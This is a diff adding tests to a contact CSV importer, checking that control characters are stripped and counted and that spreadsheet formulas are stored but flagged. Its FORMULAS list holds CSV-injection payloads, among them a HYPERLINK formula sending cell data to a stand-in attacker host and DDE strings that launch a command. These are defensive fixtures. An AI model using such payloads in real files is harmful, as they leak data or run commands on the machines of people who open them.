@@ -378,6 +378,83 @@ def test_a_csv_import_and_a_sync_share_one_contact_per_email(csv: Csv):
     assert row.sources[0] == str(auto_import.id) and row.sources[1].startswith("csv:")
 
 
+# -- control characters and formulas ------------------------------------------------------------
+
+
+def test_control_characters_are_taken_out_of_values_and_counted(csv: Csv):
+    csv.account()
+    data = lines(
+        "email,first name,last name,Notes",
+        "a@example.com,Ann\x00,Lee\x1b[31m,\u202eevil\u202c",
+        'b@example.com,Bob,"Two\r\nlines\x07",tab\tinside',
+        "c@example.com,\u2066Cy\u2069,,\x7f",
+    )
+
+    report = csv.load(data)
+
+    assert (report["rows"], report["added"], report["cells_cleaned"]) == (3, 3, 6)
+    contacts = csv.contacts()
+    a, b, c = (contacts[f"{n}@example.com"] for n in "abc")
+    assert (a.first_name, a.last_name, a.fields) == ("Ann", "Lee[31m", {"%NOTES%": "evil"})
+    assert (b.last_name, b.fields) == ("Two\r\nlines", {"%NOTES%": "tab\tinside"})
+    assert (c.first_name, c.fields) == ("Cy", {})  # a value of nothing but controls is empty
+
+
+def test_a_header_with_a_control_character_is_refused_naming_the_column(csv: Csv):
+    csv.account()
+
+    with pytest.raises(ValidationError) as caught:
+        csv.load(lines("email,first name,Notes\x1b[2J", "a@example.com,Ann,x"))
+
+    assert caught.value.violations[0].description == (
+        "row 1: column 3's name holds a control character (U+001B); no row was applied"
+    )
+    assert csv.contacts() == {} and csv.views.list_fields("acme", "csv") == []
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "  -2+3+cmd|' /C calc'!A0",
+]
+
+
+def test_formulas_are_stored_as_written_and_their_rows_flagged(csv: Csv):
+    csv.account()
+    rows = [
+        f'u{n}@example.com,"{f.replace(chr(34), chr(34) * 2)}",' for n, f in enumerate(FORMULAS)
+    ]
+    data = lines(
+        "email,first name,Notes",
+        "plain@example.com,Ann,+1 (555) 010-0100",  # row 2: a phone number, not a formula
+        *rows,  # rows 3 to 9
+        "last@example.com,Zed,=1+1",  # row 10, in a custom field
+    )
+
+    report = csv.load(data)
+
+    assert (report["rows"], report["added"], report["rows_with_formulas"]) == (9, 9, 8)
+    assert report["formula_rows"] == list(range(3, 11))
+    contacts = csv.contacts()
+    stored = [contacts[f"u{n}@example.com"].first_name for n in range(len(FORMULAS))]
+    assert stored == [f.strip() for f in FORMULAS]  # trimmed, as every value is, and no more
+    assert contacts["last@example.com"].fields == {"%NOTES%": "=1+1"}
+
+
+def test_every_formula_row_is_counted_and_the_first_100_listed(csv: Csv):
+    csv.account()
+    data = lines("email,Notes", *(f"u{n}@example.com,=A{n}" for n in range(1200)))
+
+    report = csv.load(data)
+
+    assert report["rows_with_formulas"] == 1200
+    assert report["formula_rows"] == list(range(2, 102))
+
+
 # -- malformed files ----------------------------------------------------------------------------
 
 
@@ -516,6 +593,8 @@ def test_the_import_s_history_records_each_batch(csv: Csv):
         "skipped_invalid_email": 0,
         "blocked_by_limit": 100,
         "fields_created": 0,
+        "cells_cleaned": 0,
+        "rows_with_formulas": 0,
     }
     assert [e["row"] for e in second.errors][-2:] == [702, 703]
     assert first.fields_created[0]["personalization_tag"] == "%COMPANY%"
